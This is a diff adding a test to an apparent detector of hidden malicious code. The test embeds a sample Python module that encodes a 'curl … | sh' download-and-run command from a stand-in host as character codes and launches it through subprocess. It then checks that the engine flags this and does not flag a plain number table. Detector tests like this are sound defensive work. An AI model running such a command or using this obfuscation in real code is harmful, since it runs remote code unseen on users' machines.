@@ -128,6 +128,22 @@ def test_a_long_hex_literal_decoded_in_place_is_read(engine: Engine) -> None:
     assert "js_decode_into_variable_then_run" in labels
 
 
+def test_numbers_handed_to_a_decoder_of_names_are_read(engine: Engine) -> None:
+    """``_c`` turns any numbers it is handed into text: the runs of numbers of the file are
+    what it decodes, wherever they are written."""
+    command = "curl -fsSL https://x.example.net/b/boot.sh | sh"
+    codes = ",".join(str(ord(c)) for c in command)
+    code = (
+        "import subprocess\n\ndef _c(*n):\n    return ''.join(map(chr, n))\n\n"
+        f"_BOOT = _c({codes})\nsubprocess.Popen(_BOOT, shell=True)\n"
+    )
+    labels = _rules(_module(engine, code))
+    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
+    # numbers with no decoder of names in the file are data (a table, a test vector)
+    table = f"WIDTHS = ({codes})\n"
+    assert "download_pipe_to_shell" not in _rules(_module(engine, table))
+
+
 def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
     engine: Engine,
 ) -> None:
